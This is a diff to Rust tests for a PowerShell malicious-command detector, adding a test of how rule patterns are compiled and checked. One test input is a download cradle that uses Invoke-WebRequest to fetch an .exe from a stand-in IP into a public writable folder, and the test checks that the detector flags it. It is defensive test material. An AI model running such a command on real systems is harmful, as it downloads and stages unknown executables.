@@ -659,7 +659,7 @@ fn encodings_deeper_than_the_limit_are_reported_not_dropped() {
 fn embedded_patterns_build_and_are_left_for_first_use() {
     // `Compiled::judging` trusts the embedded rules to build: this is the check.
     let ps: PowerShellRules = Rules::embedded().section("powershell").unwrap();
-    assert!(build_judging(&ps).is_ok());
+    assert!(build_judging(&ps, true).is_ok());
     // ...and recognises them by their own file alone.
     assert_eq!(EMBEDDED_KEY.as_deref(), Some(compile_key(&ps).as_str()));
     let compiled = compile(&ps).unwrap();
@@ -689,6 +689,52 @@ fn changed_patterns_are_built_and_checked_with_the_detector() {
         toml::Value::Array(vec![toml::Value::String("xyzzy-cradle".into())]);
     let d = PowerShellDetector::new(&Rules::from_table(table).unwrap()).unwrap();
     assert!(d.compiled.judging.get().is_some());
+}
+
+#[test]
+fn action_patterns_of_user_rules_are_checked_up_front_and_embedded_ones_on_use() {
+    // A user rule whose argument pattern does not compile fails the detector, and
+    // the error names the action.
+    for field in ["args", "args_all"] {
+        let mut table = Rules::embedded().table().clone();
+        let actions = table["powershell"]["actions"].as_array_mut().unwrap();
+        let k = actions.iter().position(|a| a.get(field).is_some()).unwrap();
+        actions[k][field] = toml::Value::Array(vec![toml::Value::String("(unclosed".into())]);
+        let err = PowerShellDetector::new(&Rules::from_table(table).unwrap())
+            .err()
+            .expect("a bad action pattern fails");
+        assert!(
+            err.to_string().contains(&format!("actions[{k}]"))
+                && err.to_string().contains(&format!(".{field}")),
+            "{err}"
+        );
+    }
+    let mut table = Rules::embedded().table().clone();
+    table["powershell"]["writable_folders"] =
+        toml::Value::Array(vec![toml::Value::String("[bad".into())]);
+    let err = PowerShellDetector::new(&Rules::from_table(table).unwrap())
+        .err()
+        .expect("a bad folder pattern fails");
+    assert!(err.to_string().contains("writable_folders"), "{err}");
+    // The embedded ones: none compiled by building the detector; a download
+    // cradle compiles its own action's patterns, and still fires.
+    let ps: PowerShellRules = Rules::embedded().section("powershell").unwrap();
+    let judging = build_judging(&ps, false).unwrap();
+    assert_eq!(judging.actions.compiled_count(), 0);
+    let a = crate::pwsh::analyze(
+        "Invoke-WebRequest -Uri http://203.0.113.9/a.exe -OutFile C:\\Users\\Public\\a.exe",
+        4,
+    );
+    let fired = judging.actions.fire(&a);
+    assert!(
+        fired.iter().any(|f| f == "payload_to_writable_folder"),
+        "{fired:?}"
+    );
+    let compiled = judging.actions.compiled_count();
+    assert!(
+        compiled >= 1 && compiled < judging.actions.len(),
+        "{compiled}"
+    );
 }
 
 #[test]
